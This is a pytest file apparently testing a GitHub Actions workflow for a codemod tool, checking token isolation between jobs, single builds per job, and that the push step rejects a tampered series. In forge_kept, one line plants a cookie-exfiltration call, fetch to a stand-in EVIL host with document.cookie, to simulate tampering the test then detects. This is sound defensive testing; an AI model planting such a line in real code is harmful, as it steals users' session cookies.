"""The example workflow's two jobs run as a runner runs them
(tests/workflow_run.py), with canaries committed in the repository
(tests/workflow_canary.py): the write token reaches nothing of the
repository's, the job that runs the repository's code holds no write
token, and the publish job pushes only the tool's own work. Whole
workflows: marked slow (./scripts/test --all runs them)."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest

from . import workflow_canary
from .canary import executable
from .gitrepo import BOT, git, with_remote
from .publish_support import EVIL
from .support import ROOT
from .workflow_run import READ_TOKEN, WRITE_TOKEN, Runner

BRANCH = "codemod/app-state"
pytestmark = pytest.mark.slow


def test_the_example_workflow_with_canaries_shows_the_write_token_to_nothing(tmp_path: Path) -> None:
    found = workflow_canary.run(tmp_path)
    build, publish = found["jobs"]
    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
    # the job that runs the repository's code has read permissions and no write token
    assert build.permissions == {"contents": "read"}
    assert publish.permissions == {"contents": "write", "pull-requests": "write"}
    # the canaries ran where the repository's code runs: the install step,
    # the checkout's Biome and tests; their GITHUB_PATH and GITHUB_ENV
    # reached the build job's later steps (which hold no token)
    assert {"ancestors-step", "ancestors-check", "late-check", "evil-git", "bash-env"} <= {
        name.split(".")[0] for name in found["logs"]
    }
    assert found["seen"][WRITE_TOKEN] == [], found["seen"]
    # no json.py was imported: Python runs isolated, outside the checkout
    assert not [name for name in found["logs"] if name.startswith("json-py")]
    # nothing a check left behind outlived it: not one of them was left for
    # the runner's end-of-job cleanup; nothing is alive now
    checks = [pid for pid, origin in found["scanners"].items() if origin == "check"]
    assert checks and not set(checks) & set(build.killed)
    assert found["alive"] == []
    # the token reached git's network calls alone, in the publish job
    assert {sub for sub, mark in found["git_calls"] if mark == "token"} <= {"ls-remote", "fetch", "push"}
    # the publishing process (publish, open-pr) started git and gh, nothing else
    assert set(found["publishing_programs"]) == {"git", "gh"}, found["publishing_programs"]
    # the publish job pushed the build's branch and opened the PR
    assert found["remote_branch"] == found["manifest"]["tip"]
    assert [(p["number"], p["state"]) for p in found["pulls"]] == [(1, "open")]


def _runner(tmp: Path, remote: Path, publish: dict[str, str] | None = None, **build_inputs: str) -> Runner:
    path_dir = tmp / "bin"
    path_dir.mkdir(parents=True)
    shutil.copy(workflow_canary.FAKES / "gh", path_dir / "gh")
    executable(path_dir / "bun", "#!/usr/bin/env bash\nexit 0\n")
    github = tmp / "github.json"
    github.write_text(json.dumps({"repo": "decocms/mesh", "pulls": [], "comments": {}, "calls": []}))
    return Runner(tmp, remote, path_dir, extra_env={"FAKE_GH_STATE": str(github)},
                  with_inputs={"mesh-codemod": {"author": BOT, **build_inputs},
                               "mesh-codemod/publish": {"author": BOT, **(publish or {})}})


def test_failed_checks_are_a_draft_pr_unless_the_job_is_told_to_fail(tmp_path: Path) -> None:
    """Nothing installed, and the checks required (the default): they fail,
    the build job records that and stays green, and the publish job pushes
    the branch and opens its PR as a draft that leads with the failed
    checks; `fail-on-failed-checks: true` stops the publish job there, red,
    with nothing pushed."""
    remote, _ = with_remote(tmp_path / "a")
    build, publish = _runner(tmp_path / "a", remote).run()
    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
    [pull] = json.loads((tmp_path / "a" / "github.json").read_text())["pulls"]
    assert pull["draft"] is True and pull["body"].startswith("> **Draft: mesh's checks failed on this change**")
    strict = _runner(tmp_path / "b", remote, publish={"fail-on-failed-checks": "true"})
    git(remote, "update-ref", "-d", f"refs/heads/{BRANCH}")
    build, publish = strict.run()
    assert build.ok and not publish.ok
    check = next(s for s in publish.steps if s.name == "Rebuild the series on the artifact's base")
    assert check.exit == 4 and "nothing published (--fail-on-failed-checks)" in check.stderr, check.stderr
    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
    assert json.loads((tmp_path / "b" / "github.json").read_text())["pulls"] == []
    assert READ_TOKEN != WRITE_TOKEN


def test_a_renamed_default_branch_needs_no_edit_of_the_workflow(tmp_path: Path) -> None:
    """main became trunk: the scheduled run is on trunk, and the publish
    job targets the branch the run is on, so the first run after the
    rename opens the PR against trunk and names no origin/main."""
    remote, _ = with_remote(tmp_path)
    git(remote, "branch", "-m", "main", "trunk")
    git(remote, "symbolic-ref", "HEAD", "refs/heads/trunk")
    build, publish = _runner(tmp_path, remote, **{"require-checks": "false"}).run()
    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
    [pull] = json.loads((tmp_path / "github.json").read_text())["pulls"]
    assert pull["base"]["ref"] == "trunk"
    assert "origin/main" not in "".join(s.stderr for s in build.steps + publish.steps)


# --- one build per job (issue 30) ------------------------------------------------

KEPT = "refs/mesh-codemod/publish"
GIT_LOGGER = """#!/bin/bash
sub=""; skip=""
for a in "$@"; do
  if [ -n "$skip" ]; then skip=""; continue; fi
  case "$a" in -c|-C) skip=1 ;; -*) ;; *) sub="$a"; break ;; esac
done
printf '%s\\t%s\\n' "$sub" "$(tr '\\0' ' ' < /proc/$PPID/cmdline)" >> "{log}"
exec "{git}" "$@"
"""


def _log_git(runner: Runner) -> Path:
    """A git first on the jobs' PATH that notes each call's subcommand and
    the command line of the process that made it."""
    log = runner.tmp / "git-calls.log"
    executable(runner.path_dir / "git", GIT_LOGGER.replace("{log}", str(log)).replace(
        "{git}", shutil.which("git", path="/usr/local/bin:/usr/bin:/bin") or "git"))
    return log


def builds(log: Path) -> dict[str, int]:
    """How many series each command built, all its processes together:
    every build reads its base into a temporary index once (`git
    read-tree`, deliver/build.py); `pr` is the build job's, `publish` the
    publish job's."""
    found = {"pr": 0, "publish": 0}
    for line in log.read_text().splitlines():
        sub, _, parent = line.partition("\t")
        for command in found:
            if sub == "read-tree" and f" -m codemods {command} " in parent:
                found[command] += 1
    return found


def test_the_build_runs_once_per_job(tmp_path: Path) -> None:
    """The build job's `pr` builds once; the publish job's check step
    builds once and keeps its series, and the push step pushes exactly that
    without building again."""
    remote, _ = with_remote(tmp_path)
    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
    log = _log_git(runner)
    build, publish = runner.run()
    assert build.ok and publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in build.steps + publish.steps]
    assert builds(log) == {"pr": 1, "publish": 1}, builds(log)
    steps = {s.name: s for s in publish.steps}
    assert steps["Push the branch"].exit == 0 and "not rebuilt" in steps["Push the branch"].stderr
    own = publish.temp / "mesh-codemod-report-git"
    report = json.loads((publish.temp / "mesh-codemod-report.json").read_text())
    kept = git(own, "rev-parse", KEPT).strip()
    assert kept == report["tip"] == git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip()
    assert report["push"]["pushed"] is True
    pulls = json.loads((tmp_path / "github.json").read_text())["pulls"]
    assert [p["number"] for p in pulls] == [1]


FORGE = """import json, subprocess, sys
from pathlib import Path
sys.path.insert(0, {root!r})
from tests.test_action_run import forge_kept
forge_kept(Path({own!r}), Path({report!r}), {how!r})
"""


def forge_kept(workspace: Path, report_file: Path, how: str) -> None:
    """Between the publish job's check and push steps: the kept series in
    publish's repository (``workspace``) removed, or replaced by a commit
    under the tool's name and trailers with a line of its own, the report's
    tip and commits made to match (its fingerprint left as it was)."""
    from .publish_support import MODULE, commit, tool_message

    if how == "missing":
        git(workspace, "update-ref", "-d", KEPT)
        return
    tip = git(workspace, "rev-parse", KEPT).strip()
    parent = git(workspace, "rev-parse", f"{tip}^").strip()
    evil = workspace.parent / "evil"
    git(workspace, "worktree", "add", "-q", "--detach", str(evil), tip)
    with (evil / MODULE).open("a") as handle:
        handle.write(f'fetch("https://{EVIL}/" + document.cookie);\n')
    git(evil, "add", "-A")
    tree = git(evil, "write-tree").strip()
    parent_tree = git(workspace, "rev-parse", f"{parent}^{{tree}}").strip()
    sha = commit(workspace, tree, [parent], tool_message(workspace, tip, parent_tree, tree))
    git(workspace, "update-ref", KEPT, sha)
    report = json.loads(report_file.read_text())
    report["tip"] = sha
    report["commits"][-1]["sha"] = sha
    report_file.write_text(json.dumps(report))


@pytest.mark.parametrize("how", ["missing", "forged"])
def test_the_push_step_refuses_a_kept_series_that_is_missing_or_not_the_reports(tmp_path: Path, how: str) -> None:
    """The ref the check step kept is gone, or holds another series than
    its report's fingerprint (moved between the steps, by whatever ran in
    between): the push step exits 3 and pushes nothing; nothing is rebuilt."""
    remote, _ = with_remote(tmp_path)
    runner = _runner(tmp_path, remote, **{"require-checks": "false"})
    log = _log_git(runner)
    # the first `gh` call (the decide step, between check and push) moves the ref first
    script = tmp_path / "forge.py"
    script.write_text(FORGE.format(root=str(ROOT), own=str(tmp_path / "job-publish" / "temp" / "mesh-codemod-report-git"),
                                   report=str(tmp_path / "job-publish" / "temp" / "mesh-codemod-report.json"), how=how))
    mark = tmp_path / "forged"
    executable(runner.path_dir / "gh", f"""#!/bin/bash
if [ ! -e "{mark}" ]; then touch "{mark}"; "{sys.executable}" "{script}" || exit 99; fi
exec "{sys.executable}" "{workflow_canary.FAKES / 'gh'}" "$@"
""")
    build, publish = runner.run()
    assert build.ok and mark.exists()
    steps = {s.name: s for s in publish.steps}
    push = steps["Push the branch"]
    assert push.exit == 3, (push.exit, push.stderr[-800:])
    expected = "is missing" if how == "missing" else "is not the report's"
    assert KEPT in push.stderr and expected in push.stderr and "nothing pushed" in push.stderr, push.stderr
    assert git(remote, "for-each-ref", "--format=%(refname)", f"refs/heads/{BRANCH}").strip() == ""
    assert not holds_anywhere(remote, EVIL)
    assert steps.get("Open or update the pull request") is None  # the job ended at the push
    assert json.loads((tmp_path / "github.json").read_text())["pulls"] == []
    assert builds(log) == {"pr": 1, "publish": 1}, builds(log)


def holds_anywhere(remote: Path, text: str) -> bool:
    refs = git(remote, "for-each-ref", "--format=%(refname)").split()
    return any(text in git(remote, "log", "-p", ref) for ref in refs)
